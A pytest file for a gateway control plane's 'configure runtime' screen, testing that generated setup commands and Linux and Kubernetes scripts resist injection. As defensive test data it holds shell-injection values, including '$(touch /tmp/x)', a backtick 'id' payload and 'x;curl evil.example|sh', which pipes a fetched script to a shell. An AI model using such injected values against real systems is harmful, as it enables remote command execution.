"""What **Configure Runtime** shows: nothing in a command is more than the word that it should be, and every script works."""

import os
import shlex
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
import yaml

from kongdp.controlplane.console.screens.configure_runtime import (
    MOUNT,
    command,
    kubernetes_script,
    linux_script,
    place_of,
)
from kongdp.controlplane.console.visit import Visit
from kongdp.settings.loading import load_settings
from tests.support.certificates import authority
from tests.support.dockerfile import read_dockerfile

GROUP = {
    "id": "3c1f6d9e-0000-4000-8000-000000000000",
    "config": {
        "ca_fingerprint": "ab" * 32,
        "control_plane_endpoint": "gateway.example:8005",
        "telemetry_endpoint": "gateway.example:8006",
    },
}


def visitor(name: str = "admin") -> Visit:
    return cast(Visit, SimpleNamespace(identity=SimpleNamespace(name=name), host="console.example"))


@pytest.mark.parametrize("name", ["admin", "ann o'neil", "$(touch /tmp/x)", '`id`; id & "', "-x"])
def test_a_name_is_one_word_of_the_command(name: str) -> None:
    """Whatever characters it has."""
    first, second = command(visitor(name), GROUP, "gateway.example:8005", 8000).split(" && ", 1)
    assert shlex.split(first)[:3] == ["curl", "-fsSk", "https://gateway.example:8005/runtime-setup.sh"]
    words = shlex.split(second)
    assert words[words.index("-u") + 1] == name
    assert len(words) == 12


@pytest.mark.parametrize(
    ("host", "place"),
    [
        ("", "gateway.example:8005"),
        ("10.0.0.1", "10.0.0.1:8005"),
        ("10.0.0.1:9", "10.0.0.1:9"),
        ("[::1]:9", "[::1]:9"),
        ("x;curl evil.example|sh", "console.example:8005"),
        ("x\nproxy_listen = off", "console.example:8005"),
        ("$(id):1", "console.example:8005"),
    ],
)
def test_a_host_in_the_address_is_a_host_or_nothing(host: str, place: str) -> None:
    """Anybody could have sent the link."""
    group: dict[str, Any] = GROUP
    assert place_of(visitor(), group, host) == place


@pytest.fixture
def made() -> dict[str, str]:
    """What the API answers when it has generated a certificate."""
    pair = authority("a node")
    pem = pair.pem.decode()
    return {
        "node_id": "3c1f6d9e-1111-4000-8000-000000000000",
        "cert": pem,
        "key": pair.key_pem.decode(),
        "ca_cert": pem,
    }


def test_the_script_for_linux_writes_what_the_node_reads(made: dict[str, str], tmp_path: Path) -> None:
    """Files that nobody else reads; then it starts the node with them."""
    programs = tmp_path / "bin"
    programs.mkdir()
    (programs / "kongdp").write_text(f'#!/bin/sh\necho "$@" >{tmp_path}/started\n')
    (programs / "kongdp").chmod(0o755)
    directory = tmp_path / "etc"
    script = linux_script(GROUP, "gateway.example:8005", made).replace("/etc/kongdp", str(directory))
    path = f"{programs}:{os.environ['PATH']}"
    subprocess.run(["sh", "-c", script], env={"PATH": path}, check=True, timeout=60)
    assert (tmp_path / "started").read_text() == f"start -c {directory}/kongdp.conf\n"
    assert (directory / "tls.key").read_text() == made["key"]
    assert [each.stat().st_mode & 0o777 for each in directory.iterdir()] == [0o600] * 4
    settings = load_settings(str(directory / "kongdp.conf"), {}, {"prefix": str(tmp_path)})
    assert (settings.role, settings.node_id) == ("data_plane", made["node_id"])
    assert [each for each in settings.warnings if "unknown" in each or "no effect" in each] == []


def test_the_script_for_kubernetes_has_what_the_image_reads(made: dict[str, str], tmp_path: Path) -> None:
    """The container's environment, with the secret where it is mounted, is a data plane's."""
    script = kubernetes_script(GROUP, "gateway.example:8005", made)
    first, *documents, last = script.splitlines()
    assert (first, last) == ("kubectl apply -f - <<'END_OF_FILE'", "END_OF_FILE")
    secret, deployment, service = yaml.safe_load_all("\n".join(documents))
    pod = deployment["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    (volume,) = pod["volumes"]
    (mount,) = container["volumeMounts"]
    assert (volume["secret"]["secretName"], volume["name"]) == (secret["metadata"]["name"], mount["name"])
    assert service["spec"]["selector"].items() <= deployment["spec"]["template"]["metadata"]["labels"].items()
    assert mount["mountPath"] == MOUNT
    for name, text in secret["stringData"].items():
        (tmp_path / name).write_text(text)
    env = {each["name"]: each["value"].replace(MOUNT, str(tmp_path)) for each in container["env"]}
    image = read_dockerfile(Path(__file__).parents[3] / "Dockerfile").env
    settings = load_settings(None, {**image, **env}, {"prefix": str(tmp_path)})
    assert (settings.role, settings.node_id) == ("data_plane", made["node_id"])
    assert [each for each in settings.warnings if "unknown" in each or "no effect" in each] == []
